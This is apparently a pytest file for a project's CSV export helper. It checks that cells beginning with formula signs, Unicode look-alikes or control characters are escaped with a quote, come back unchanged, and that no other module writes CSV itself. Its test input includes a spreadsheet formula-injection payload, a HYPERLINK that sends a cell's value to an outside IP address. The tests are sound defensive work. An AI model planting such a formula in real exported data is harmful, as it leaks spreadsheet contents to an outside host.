"""CSV that no spreadsheet runs, in every file we write."""
# ruff: noqa: RUF001

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from pathlib import Path

import pytest

from gateway_project.core import cells
from gateway_project.tests.served import ROOT

FORMULA = '=HYPERLINK("https://198.41.0.4/?"&A1)'
# No letters of alphabets without case, and nothing that is not assigned: a million of code points.
ASSIGNED = [
    chr(code)
    for code in range(sys.maxunicode + 1)
    if unicodedata.category(chr(code)) not in ("Lo", "Cn", "Co", "Cs")
]
# Each character that some form of Unicode makes one of these, or that is a sign by its name.
ALIKE = [
    char
    for char in ASSIGNED
    if unicodedata.normalize("NFKC", char).lstrip()[:1] in set("=+-@")
    or (
        any(
            word in unicodedata.name(char, "").split()
            for word in ("MINUS", "PLUS-MINUS", "MINUS-OR-PLUS", "DASH")
        )
        and unicodedata.category(char) in ("Sm", "Pd")
    )
]
UNSEEN = ["", *" \u00a0\u3000\ufeff\u200b\u2060\u00ad\u202e\x00\x1f\u0301"]


def opened(row):
    file = io.StringIO()
    cells.writer(file).writerow([cells.cell(value) for value in row])
    return next(csv.reader(io.StringIO(file.getvalue(), newline="")))


def test_there_are_as_many_alike_as_the_standard_has():
    assert {
        "＝",
        "＋",
        "－",
        "＠",
        "﹢",
        "﹣",
        "﹦",
        "⁺",
        "⁻",
        "⁼",
        "₊",
        "₋",
        "−",
        "–",
        "—",
    } <= set(ALIKE)


@pytest.mark.parametrize("unseen", UNSEEN, ids=ascii)
def test_nothing_that_looks_like_a_sign_begins_a_cell(unseen):
    bare = [
        sign
        for sign in [*ALIKE, "\t", "\r", "\n"]
        if not cells.cell(f"{unseen}{sign}1+1").startswith("'")
    ]
    # Signs within a sentence of mathematics, which nothing computes.
    assert {s for s in bare if unicodedata.category(s) != "Sm"} == set()
    assert not {"=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "\t", "\r", "\n"} & set(bare)


@pytest.mark.parametrize(
    "text", [FORMULA, "'=1", "''＝1", "＝１＋１", "−٣", "-1", "\t=1", "@SUM(1)"]
)
def test_it_comes_back_as_it_was(text):
    made = cells.cell(text)

    assert made == f"'{text}"
    assert cells.uncell(made) == text
    assert opened([text]) == [made]


@pytest.mark.parametrize(
    "text", ["", "a=1", "it's", "'quoted'", "2026-01-01", "x;=1+1", "٣", "１２", "“q”", "ünï", "#5"]
)
def test_what_is_none_stays_what_it_is(text):
    assert cells.cell(text) == cells.uncell(text) == text


def test_no_semicolon_begins_a_cell():
    file = io.StringIO()
    cells.writer(file).writerow([cells.cell("x;=1+1"), -5, 1.5])

    assert file.getvalue() == '"x;=1+1",-5,1.5\r\n'


def test_nobody_writes_csv_by_himself():
    own = ROOT / "gateway_project/core/cells.py"
    found = [
        path
        for folder in ("accounts", "detection", "gateway_project", "portal", "robin", "webhooks")
        for path in Path(ROOT / folder).rglob("*.py")
        if "/tests/" not in str(path) and path != own and "csv.writer" in path.read_text()
    ]

    assert found == []
